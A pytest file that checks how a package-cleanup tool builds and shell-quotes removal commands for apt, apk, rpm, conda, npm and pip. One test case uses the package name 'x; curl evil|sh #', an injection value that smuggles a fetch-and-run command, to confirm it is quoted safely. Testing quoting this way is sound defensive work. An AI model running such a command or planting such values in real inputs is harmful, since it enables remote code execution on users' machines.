import pytest

from mlbloat.model.package import Manager, Package
from mlbloat.model.removers import removal, removes


def package(manager: Manager, name: str, location: str = "/", *files: str) -> Package:
    return Package(manager=manager, name=name, version="1", location=location, files=files)


@pytest.mark.parametrize(
    ("manager", "location", "name", "command"),
    [
        (Manager.APT, "/", "libc6:i386", "apt-get purge --yes libc6:i386"),
        (Manager.APK, "/", ".build", "apk del .build"),
        (Manager.RPM, "/", "lib:i686", "rpm --erase lib.i686"),
        (Manager.RPM, "/", "kernel:x86_64:1:2.0-3.el9", "rpm --erase kernel-2.0-3.el9.x86_64"),
        (Manager.RPM, "/", "gpg-pubkey::1-2", "rpm --erase gpg-pubkey-1-2"),
        (Manager.RPM, "/", "x; curl evil|sh #", "rpm --erase 'x; curl evil|sh #'"),
        (Manager.CONDA, "/opt/a;b c", "q", "conda remove --yes --force-remove --prefix '/opt/a;b c' q"),
        (Manager.CONDA, "/opt/a\nb", "q", ""),
        (Manager.NPM, "/usr/local/lib/node_modules", "@a/b", "npm uninstall --global --prefix /usr/local @a/b"),
        (Manager.NPM, "/lib/node_modules", "b", "npm uninstall --global --prefix / b"),
        (Manager.PIP, "/opt/v/lib/python3.11/site-packages", "q", "/opt/v/bin/python3.11 -m pip uninstall --yes q"),
        (Manager.PIP, "/usr/lib/python3/dist-packages", "q", "/usr/bin/python3 -m pip uninstall --yes q"),
        (
            Manager.PIP,
            "/usr/local/lib/python3.11/dist-packages",
            "q",
            "/usr/bin/python3.11 -m pip uninstall --yes q",
        ),
        (Manager.PIP, "/my target", "q", "PYTHONPATH='/my target' pip uninstall --yes q"),
        (
            Manager.PIP,
            "/root/.local/lib/python3.11/site-packages",
            "q",
            "PYTHONPATH=/root/.local/lib/python3.11/site-packages pip uninstall --yes q",
        ),
    ],
)
def test_a_command_names_place_and_package_exactly(manager: Manager, location: str, name: str, command: str) -> None:
    assert removal([package(manager, name, location)]) == command


def test_each_place_has_a_command() -> None:
    packages = [package(Manager.CONDA, name, place) for name, place in (("a", "/x"), ("b", "/y"), ("c", "/x"))]
    assert removal(packages) == (
        "conda remove --yes --force-remove --prefix /x a c && conda remove --yes --force-remove --prefix /y b"
    )


@pytest.mark.parametrize(
    "path",
    [
        "/usr/bin/apt-get",
        "/sbin/apk",
        "/usr/bin/microdnf",
        "/usr/bin/yum",
        "/usr/bin/rpm",
        "/opt/conda/bin/conda",
        "/site/pip/__main__.py",
        "/site/npm/package.json",
    ],
)
def test_what_removes_is_known_by_its_program(path: str) -> None:
    assert removes(package(Manager.APT, "a", "/site", path))
    assert not removes(package(Manager.APT, "a", "/site", f"{path}.1"))
